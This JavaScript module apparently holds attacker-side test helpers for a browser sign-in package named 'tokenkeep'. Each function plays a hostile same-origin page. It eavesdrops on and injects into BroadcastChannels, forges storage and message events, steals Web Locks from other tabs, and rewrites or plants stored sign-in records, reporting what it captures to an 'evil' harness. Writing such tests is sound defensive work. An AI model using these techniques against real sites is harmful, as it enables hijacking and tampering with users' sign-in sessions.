// What any page of the origin can say on the channels that the package uses. Each function runs in a page and stands alone.

/** Listens and speaks on the channels of all sign-ins under way; what is heard goes to the attacker. */
export async function joinChannels(evil, { words }) {
  const all = await evil.records();
  const keys = all.filter(([, { record }]) => record).map(([key]) => key);
  await evil.post({ names: keys, records: all.map(([, { record }]) => record) });
  for (const key of keys) {
    const channel = new BroadcastChannel(`tokenkeep-${key}`);
    channel.addEventListener("message", ({ data }) => evil.post({ heard: data }));
    for (const word of words) channel.postMessage(word);
  }
  return keys.length;
}

/** Says everything on channels by other names, as storage events, and as what is stored. */
export function speakEverywhere(evil, { words }) {
  for (const name of ["tokenkeep", "tokenkeep-", "tokenkeep-silent", "tokenkeep-session", "signout"]) {
    const channel = new BroadcastChannel(name);
    channel.addEventListener("message", ({ data }) => evil.post({ heard: data }));
    for (const word of words) {
      channel.postMessage(word);
      const text = JSON.stringify(word) ?? "";
      localStorage.setItem(name, text);
      sessionStorage.setItem(`x-${name}`, text);
      dispatchEvent(new StorageEvent("storage", { key: name, newValue: text, storageArea: localStorage }));
      dispatchEvent(new MessageEvent("message", { data: word, origin: location.origin }));
    }
  }
}

/** Takes the lock of every page that is connected, holds it for a moment and lets it go. */
export async function stealLocks(evil) {
  const { held } = await navigator.locks.query();
  const names = held.map(({ name }) => name).filter((name) => name.startsWith("tokenkeep-"));
  await evil.post({ names });
  for (const name of names) await navigator.locks.request(name, { steal: true }, () => {});
  return names.length;
}

/** Rewrites the record of every sign-in under way. */
export async function rewriteRecords(evil, changes) {
  // One that was used has a mark in its place.
  const pending = (await evil.records()).filter(([, { record }]) => record);
  const rewritten = ([key, value]) => [key, { ...value, record: JSON.stringify({ ...JSON.parse(value.record), ...changes }) }];
  await evil.plantRecords(pending.map(rewritten));
  return pending.length;
}

/** Puts these `[key, value]` into the store. */
export const plantRecords = (evil, records) => evil.plantRecords(records);
